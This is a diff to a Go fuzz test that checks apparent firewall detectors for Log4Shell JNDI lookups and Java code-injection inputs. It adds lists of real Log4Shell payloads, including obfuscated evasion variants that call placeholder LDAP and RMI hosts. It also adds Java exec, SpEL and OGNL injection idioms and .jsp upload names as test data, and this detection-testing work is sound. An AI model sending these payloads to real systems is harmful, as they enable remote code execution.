@@ -210,29 +210,87 @@ func BenchmarkJavaBenign(b *testing.B) {
 	}
 }
 
-// FuzzJavaLog4j runs both matchers on arbitrary input: they must not panic, and a
-// fragment is never longer than the value it came from.
+// jndiLookups are Log4Shell payloads, plain and obfuscated the ways log4j.go resolves
+// (nested lookups, defaults, case, a lookup built by resolving twice, no braces left).
+var jndiLookups = []string{
+	"${jndi:ldap://a.example/x}", "${${::-j}${::-n}${::-d}${::-i}:rmi://a.example/x}",
+	"${${lower:J}ndi:dns://a.example}", "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://a.example/x}",
+	"${JnDi:ldaps://a.example/x}", "$${::-$}{jndi:ldap://a.example/x}", "jndi:ldap://a.example/x",
+	"${jnd${upper:ı}:ldap://a.example/x}",
+}
+
+// javaIdioms are Java process and reflection idioms that java.go matches anywhere.
+var javaIdioms = []string{
+	"Runtime.getRuntime().exec(\"id\")", "new ProcessBuilder(\"id\").start()", "\"\".getClass().forName(\"x\")",
+	"\"id\".execute()", "T(java.lang.Runtime).getRuntime()", "${script:javascript:java.lang.Runtime.getRuntime()}",
+	"%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}", "class.module.classLoader.resources",
+}
+
+// FuzzJavaLog4j checks the promises of log4j.go and java.go on arbitrary input:
+//
+//   - LOG4J-JNDI: a JNDI lookup of jndiLookups is found wherever it sits in benign text;
+//     a lookup whose default spells the "j" of jndi is resolved whatever the lookup's
+//     name (${xyz:-j}ndi...); benign text (no '$' or ':') never matches;
+//   - CODEINJECTION (Java): each of javaIdioms is found in benign text, and an uploaded
+//     file name ending in .jsp or .jspx (after trailing dots or spaces too) whatever its
+//     base name; words of prose (no digits or dots) never match, in a query value, a
+//     file name or a fastjson @type key;
+//   - fragments are non-empty and part of the value.
 func FuzzJavaLog4j(f *testing.F) {
 	for _, s := range []string{
 		"${${::-j}ndi:ldap://a/x}", "$${::-$}{jndi:x}", "${lower:${upper:ı}}", "rO0ABXNy",
 		"AKztAAX", "%{(#_='x')}", "T(java.lang.Runtime)", "a.b.c.d.e.f.g.h.i.j.k.l.m.n.o.p.q.r",
 		"Lcom.sun.rowset.JdbcRowSetImpl;", "getRuntime().exec(", "x.jsp::$DATA", "\xac\xed\x00\x05",
 	} {
-		f.Add(s)
+		f.Add(s, "", uint8(0))
+	}
+	for n := range 8 {
+		f.Add("Please call me back tomorrow", "thanks", uint8(n))
 	}
 	params := []request.Param{
 		{Source: request.SourceQuery, Name: "q"},
 		{Source: request.SourceMultipart, Name: "f.filename"},
 		{Source: request.SourceJSON, Name: "@type"},
 	}
-	f.Fuzz(func(t *testing.T, v string) {
+	f.Fuzz(func(t *testing.T, v, suffix string, n uint8) {
 		for i := range params {
-			if frag, ok := matchJava(&params[i], v); ok && len(frag) > len(v) {
-				t.Fatalf("java fragment %q longer than %q", frag, v)
+			if frag, ok := matchJava(&params[i], v); ok {
+				checkFragment(t, CODEINJECTION, v, frag)
 			}
 		}
-		if frag, ok := matchLog4j(&params[0], v); ok && len(frag) > len(v) {
-			t.Fatalf("log4j fragment %q longer than %q", frag, v)
+		if frag, ok := matchLog4j(&params[0], v); ok {
+			checkFragment(t, LOG4J, v, frag)
+		}
+
+		before, after := benignText(v, benignAlphabet, 60)+" ", " "+benignText(suffix, benignAlphabet, 60)
+		name := "x" + benignText(suffix, "abcdefghijklmnopqrstuvwxyz", 10)
+		for _, lookup := range []string{pick(jndiLookups, n), "${${" + name + ":-j}ndi:ldap://a.example/x}"} {
+			w := before + lookup + after
+			if frag, ok := matchLog4j(&params[0], w); !ok {
+				t.Fatalf("LOG4J-JNDI missed %q", w)
+			} else {
+				checkFragment(t, LOG4J, w, frag)
+			}
+		}
+		if w := before + benignText(suffix, benignAlphabet, 60); func() bool { _, ok := matchLog4j(&params[0], w); return ok }() {
+			t.Fatalf("LOG4J-JNDI matched benign %q", w)
+		}
+
+		w := before + pick(javaIdioms, n) + after
+		if frag, ok := matchJava(&params[0], w); !ok {
+			t.Fatalf("CODEINJECTION (Java) missed %q", w)
+		} else {
+			checkFragment(t, CODEINJECTION, w, frag)
+		}
+		file := "a" + benignText(v, "abcdefghijklmnopqrstuvwxyz0123456789-_", 30) + pick([]string{".jsp", ".jspx", ".JSP", ".jsp.", ".jsp ", ".jspx..."}, n)
+		if _, ok := matchJava(&params[1], file); !ok {
+			t.Fatalf("CODEINJECTION (Java) missed the upload %q", file)
+		}
+		words := benignText(v+suffix, wordAlphabet, 200)
+		for i := range params {
+			if frag, ok := matchJava(&params[i], words); ok {
+				t.Fatalf("CODEINJECTION (Java) matched prose %q in %q (fragment %q)", words, params[i].Name, frag)
+			}
 		}
 	})
 }
